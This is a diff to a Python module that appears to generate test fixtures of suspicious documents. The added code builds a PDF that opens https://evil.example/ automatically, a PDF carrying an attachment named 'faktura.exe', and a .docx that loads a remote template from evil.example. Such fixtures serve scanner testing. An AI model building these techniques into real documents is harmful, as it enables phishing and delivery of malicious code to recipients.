@@ -5,7 +5,7 @@ import zipfile
 
 from PIL import Image
 from pypdf import PdfWriter
-from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 
 TYPES = {
     ".docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
@@ -47,6 +47,20 @@ def _opens_with(writer, **action):
     writer.root_object[NameObject("/OpenAction")] = named
 
 
+def pdf_that_calls(writer):
+    _opens_with(writer, S=NameObject("/URI"), URI=TextStringObject("https://evil.example/"))
+
+
+def pdf_with_annotation(writer):
+    annotation = DictionaryObject(
+        {
+            NameObject("/Subtype"): NameObject("/FileAttachment"),
+            NameObject("/Contents"): TextStringObject("faktura.exe"),
+        }
+    )
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([annotation])
+
+
 def pdf_with_password(writer):
     writer.encrypt("tajne")
 
@@ -80,3 +94,9 @@ def photograph(kind="JPEG"):
         made, kind, exif=exif
     )
     return made.getvalue()
+
+
+def external(kind="attachedTemplate"):
+    """A text with a relation to somewhere else."""
+    relation = f'<Relationships><Relationship Type="x/{kind}" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
+    return office(".docx", **{"word/_rels/settings.xml.rels": relation})
